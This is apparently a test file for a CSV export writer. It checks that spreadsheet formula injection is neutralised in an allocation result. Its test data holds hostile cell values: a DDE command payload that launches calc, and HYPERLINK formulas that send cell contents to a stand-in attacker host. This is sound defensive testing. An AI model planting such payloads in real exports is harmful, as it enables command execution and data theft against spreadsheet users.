import { describe, expect, it } from 'vitest';
import { allocationCsv } from '@/lib/api/allocation-csv';
import { csvCell, csvNumber, neutraliseText, toCsv } from '@/lib/api/csv';
import type { PublishedAllocation } from '@/lib/dal/internal/formulas/batch-effects';

describe('CSV writer', () => {
  it('neutralises every text cell a spreadsheet would run as a formula', () => {
    const hostile = ['=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '  =cmd|\' /C calc\'!A0', '\u3000=1', '=HYPERLINK("http://evil.example/?"&A1,"点击")'];
    for (const v of hostile) {
      const out = csvCell(v);
      // Unquoted, or quoted: either way the cell's text starts with the apostrophe.
      const text = out.startsWith('"') ? out.slice(1, -1).replace(/""/g, '"') : out;
      expect(text, JSON.stringify(v)).toBe(`'${v}`);
    }
    expect(csvCell('=HYPERLINK("x","y")')).toBe('"\'=HYPERLINK(""x"",""y"")"');
  });

  it('leaves ordinary text alone and quotes separators, quotes and line breaks', () => {
    expect(csvCell('盂县')).toBe('盂县');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(neutraliseText('调整说明')).toBe('调整说明');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('keeps numeric cells numeric, negative ones included, and only real numbers', () => {
    expect(csvCell(-12345n)).toBe('-12345');
    expect(csvCell(csvNumber('-5'))).toBe('-5');
    expect(csvCell(csvNumber('12.50'))).toBe('12.50');
    expect(csvCell(csvNumber(3))).toBe('3');
    // Marked as a number but not one: text, and neutralised.
    expect(csvCell(csvNumber('-1+2'))).toBe("'-1+2");
    expect(csvCell(csvNumber('=1'))).toBe("'=1");
    expect(csvCell(csvNumber('1,000'))).toBe('"1,000"');
    // A text cell holding a negative number is still text: the writer never guesses.
    expect(csvCell('-5')).toBe("'-5");
  });

  it('writes a BOM, CRLF line ends and a final CRLF', () => {
    expect(toCsv([['a', 'b'], [csvNumber('1'), '=x']])).toBe("\uFEFFa,b\r\n1,'=x\r\n");
  });

  it('neutralises names and reasons in an allocation result while amounts stay numbers', () => {
    const c = {
      batch: {},
      formula: { factors: [{ code: 'area' }] },
      recipients: [{ code: '+140321', name: '=HYPERLINK("http://evil.example","x")', values: { area: '-2.5' }, sources: {}, share: '1/2', computedFen: '100', finalFen: '-100', adjustmentReason: '@SUM(1)' }],
      withheld: [{ basisCode: 'OGI-14', basis: '-涉密', basisEn: '', items: 1, amountFen: '200' }],
    } as unknown as PublishedAllocation;
    const lines = allocationCsv(c).replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('recipient_code,recipient_name,area,share,computed_fen,final_fen,adjustment_reason');
    expect(lines[1]).toBe(`'+140321,"'=HYPERLINK(""http://evil.example"",""x"")",-2.5,1/2,100,-100,'@SUM(1)`);
    expect(lines[2]).toBe("withheld:OGI-14,'-涉密,,,,200,1");
  });
});
